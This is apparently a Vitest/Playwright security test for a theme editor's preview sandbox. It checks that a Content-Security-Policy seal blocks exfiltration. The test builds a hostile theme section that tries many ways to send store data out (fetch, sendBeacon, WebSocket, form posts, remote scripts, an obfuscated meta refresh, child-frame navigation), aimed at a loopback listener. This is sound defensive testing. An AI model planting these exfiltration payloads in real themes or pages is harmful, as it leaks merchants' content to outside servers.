// Issue 25, attack 8: the preview could phone home. An imported theme's scripts run in the
// editor's frame, the page thumbnails and Live Preview, where they see the merchant's draft and
// their store's pulled content; with no Content-Security-Policy they could send it to any server.
// A theme section that tries every way out is rendered and opened in Chromium as the editor opens
// it (a srcdoc frame, sandbox="allow-scripts"), beside a listener on loopback that counts what
// reaches it.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { composeTheme } from '../../src/engine/compose'
import { renderTheme } from '../../src/engine/preview'
import { SEAL } from '../../src/engine/preview/seal'
import { launchBrowser } from '../e2e/support/app'

let browser: Browser
let server: Server
let base: string
const reached: string[] = []

beforeAll(async () => {
  server = createServer((req, res) => {
    reached.push(`${req.method} ${req.url}`)
    res.setHeader('access-control-allow-origin', '*')
    res.end('ok')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  browser = await launchBrowser()
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => server?.close(resolve))
})

const theme = composeTheme({ prompt: 'A trendy shoe store called Stride', pageType: 'homepage' })

function exfiltrating(url: string): string {
  return `<div id="loot">{{ shop.name }}</div>
<img src="${url}/img">
<link rel="stylesheet" href="${url}/css">
<link rel="prefetch" href="${url}/prefetch">
<video src="${url}/video"></video>
<iframe src="${url}/frame"></iframe>
<form id="leak" method="post" action="${url}/form"><input name="d" value="x"></form>
<div style="background:url(${url}/bg)">bg</div>
<script>
  const data = document.getElementById('loot').textContent;
  fetch('${url}/fetch?d=' + data).catch(() => {});
  const xhr = new XMLHttpRequest(); xhr.open('GET', '${url}/xhr'); xhr.send();
  navigator.sendBeacon('${url}/beacon', data);
  try { new WebSocket('${url.replace('http', 'ws')}/ws') } catch (e) {}
  try { new EventSource('${url}/sse') } catch (e) {}
  const s = document.createElement('script'); s.src = '${url}/script.js'; document.head.append(s);
  try { import('${url}/module.js').catch(() => {}) } catch (e) {}
  document.getElementById('leak').submit();
</script>
{% schema %}{"name":"Leak","settings":[]}{% endschema %}`
}

async function open(html: string) {
  const page = await browser.newPage()
  await page.setContent(
    `<iframe sandbox="allow-scripts" style="width:1200px;height:800px" srcdoc="${html
      .replace(/&/g, '&amp;')
      .replace(/"/g, '&quot;')}"></iframe>`,
  )
  // Long enough for every request the section makes to be sent.
  await page.waitForTimeout(1500)
  return page
}

describe('the preview document', () => {
  it('lets no request leave it, whatever the theme tries, and still shows the store', async () => {
    const files = {
      ...theme.files,
      'sections/leak.liquid': exfiltrating(base),
      'templates/index.json': JSON.stringify({ sections: { leak: { type: 'leak' } }, order: ['leak'] }),
    }
    const { html, errors } = await renderTheme(files)
    expect(errors).toEqual([])
    const page = await open(html)
    const frame = page.frames()[1]!
    expect(await frame.locator('#loot').textContent()).toBe('Stride')
    expect(await frame.locator('header').first().isVisible()).toBe(true)
    expect(reached).toEqual([])
    await page.close()
  })

  it('cannot be unsealed by the policy’s own text, an escaped meta refresh or a frame of its own', async () => {
    // Found by the second attack: the seal was skipped when the page held the policy's text
    // anywhere (a comment), and a meta refresh spelled with a character reference passed. (A
    // script navigating its own frame is a way out no CSP covers: see seal.ts.)
    const { html: sealed } = await renderTheme(theme.files)
    const policy = sealed.slice('<!doctype html>'.length, sealed.indexOf('<script>'))
    const files = {
      ...theme.files,
      'sections/leak.liquid': `<!-- ${policy} --><img src="${base}/unsealed">
<meta http-equiv="&#114;efresh" content="0;url=${base}/refresh">
<meta content="0;url=${base}/refresh2" http-equiv=refresh>
<iframe id="child"></iframe>
<script>
  setTimeout(() => { try { document.getElementById('child').contentWindow.location = '${base}/child' } catch (e) {} }, 100);
</script>
{% schema %}{"name":"Leak","settings":[]}{% endschema %}`,
      'templates/index.json': JSON.stringify({ sections: { leak: { type: 'leak' } }, order: ['leak'] }),
    }
    const { html } = await renderTheme(files)
    expect(html.startsWith(`<!doctype html>${SEAL}`)).toBe(true)
    const page = await open(html)
    expect(await page.frames()[1]!.locator('header').first().isVisible()).toBe(true)
    expect(reached).toEqual([])
    await page.close()
  })

  it('carries the policy as its first element, before anything that could load', async () => {
    for (const template of ['index', 'product', 'no-such-template']) {
      const { html } = await renderTheme(theme.files, { template })
      expect(html).toMatch(
        /^<!doctype html>\s*<meta http-equiv="Content-Security-Policy" content="default-src 'none';/i,
      )
    }
  })
})
